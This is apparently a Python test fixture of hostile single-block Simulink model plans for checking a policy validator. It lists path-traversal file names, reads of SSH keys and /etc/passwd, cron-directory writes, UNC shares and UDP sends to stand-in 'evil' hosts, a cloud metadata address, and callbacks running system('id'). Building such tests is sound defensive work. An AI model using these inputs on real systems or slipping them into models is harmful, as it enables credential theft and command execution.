"""Drafts of Simulink models that try to reach files, code or hosts outside.

Every second one was set aside while policy was written, and opened once.
"""

from __future__ import annotations

from collections.abc import Iterator
from typing import Any

from grounded_builder.ir.options import Policy

_RUN = "system('id')"
_USER = "simulink/User-Defined Functions"
_NO_CODE = Policy(no_code=True)
_HOSTS = Policy(allowed_hosts=("a.test",))

# Tool, parameters, the policy that they try to pass.
BLOCKS: list[tuple[str, dict[str, Any], Policy]] = [
    ("simulink/Sinks/To File", {"Filename": "/etc/cron.d/x.mat"}, Policy()),
    ("simulink/Sinks/To File", {"Filename": "'..\\..\\x.mat'"}, Policy()),
    ("simulink/Sinks/To File", {"Filename": "\\\\evil\\share\\x.mat"}, Policy()),
    ("simulink/Sinks/To File", {"Filename": "sub/../../x.mat"}, Policy()),
    ("simulink/Sources/From File", {"FileName": "~/.ssh/id_rsa"}, Policy()),
    ("simulink/Sources/From File", {"FileName": "file:///etc/passwd"}, Policy()),
    ("simulink/Sources/From Spreadsheet", {"FileName": "C:\\Users\\x.xlsx"}, Policy()),
    ("simulink/Sources/From Spreadsheet", {"FileName": "//evil/share/x.xlsx"}, Policy()),
    ("simulink/Ports & Subsystems/Model", {"ModelName": "//evil/share/x"}, Policy()),
    ("simulink/Ports & Subsystems/Model", {"ModelNameDialog": "/opt/evil.slx"}, Policy()),
    ("built-in/ModelReference", {"ModelFile": "/opt/evil.slx"}, Policy()),
    ("built-in/ModelReference", {"ModelName": "..\\evil"}, Policy()),
    (f"{_USER}/MATLAB System", {"System": "evil.Class"}, Policy()),
    (f"{_USER}/MATLAB System", {}, _NO_CODE),
    (f"{_USER}/S-Function", {"FunctionName": "evil"}, Policy()),
    (f"{_USER}/S-Function", {"FunctionName": "evil"}, _NO_CODE),
    ("built-in/S-Function", {"FunctionName": "evil"}, Policy()),
    ("built-in/M-S-Function", {"FunctionName": "evil"}, Policy()),
    (f"{_USER}/Level-2 MATLAB S-Function", {"FunctionName": "evil"}, Policy()),
    (f"{_USER}/S-Function Builder", {"FunctionName": "evil"}, Policy()),
    (f"{_USER}/C Caller", {"FunctionName": "system"}, Policy()),
    ("rtwlib/S-Function Target/Generated S-Function", {"FunctionName": "evil"}, Policy()),
    (f"{_USER}/MATLAB Function", {"Script": f"function y = f(u)\ny = {_RUN};"}, _NO_CODE),
    (f"{_USER}/Interpreted MATLAB Function", {"MATLABFcn": _RUN}, Policy()),
    ("simulink/Math Operations/Gain", {"Gain": _RUN}, Policy()),
    ("simulink/Math Operations/Gain", {"Gain": "evalin('base', 'x')"}, Policy()),
    ("simulink/Math Operations/Gain", {"InitFcn": _RUN}, Policy()),
    ("simulink/Math Operations/Gain", {"OpenFcn": "!id"}, Policy()),
    ("simulink/Sources/Constant", {"Value": "feval('system', 'id')"}, Policy()),
    ("simulink/Sources/Constant", {"Value": "load('/etc/x.mat').a"}, Policy()),
    ("simulink/Sources/Constant", {"MaskInitialization": _RUN}, Policy()),
    ("simulink/Sources/Constant", {"MaskDisplay": f"disp({_RUN})"}, Policy()),
    ("simulink/Model Verification/Assertion", {"AssertionFailFcn": _RUN}, Policy()),
    ("simulink/Model Verification/Check Static Range", {"callback": _RUN}, Policy()),
    ("simulink/Model Verification/Assertion", {"StopFcn": _RUN}, Policy()),
    ("simulink/Model Verification/Check Static Gap", {"callback": _RUN}, _NO_CODE),
    ("dspsnks4/UDP Send", {"remoteURL": "169.254.169.254"}, Policy()),
    ("dspsnks4/UDP Send", {"remoteURL": "evil.test"}, _HOSTS),
    ("slrealtimeiplib/UDP Send", {"toAddress": "127.0.0.1"}, Policy()),
    ("slrealtimeiplib/TCP Client", {}, _HOSTS),
    ("vipsrcs/Image From File", {"FileName": "/etc/passwd"}, Policy()),
    ("vipsrcs/Image From File", {"FileName": "http://169.254.169.254/x.png"}, Policy()),
    ("simulink/Sinks/To File", {"Filename": "%TEMP%\\..\\x.mat"}, Policy()),
    ("simulink/Sinks/To File", {"Filename": "$HOME/x.mat"}, Policy()),
    ("simulink/Sinks/To File", {"Filename": "[getenv('HOME') '/x.mat']"}, Policy()),
    ("simulink/Sinks/To File", {"Filename": "fullfile(tempdir, 'x.mat')"}, Policy()),
]


def hostile_models(half: str) -> Iterator[tuple[dict[str, Any], Policy]]:
    """Yield the plans of a half, each of one block: "open" or "sealed"."""
    for tool, parameters, policy in BLOCKS[0 if half == "open" else 1 :: 2]:
        yield {"steps": [{"id": "s", "tool": tool, "params": parameters}]}, policy
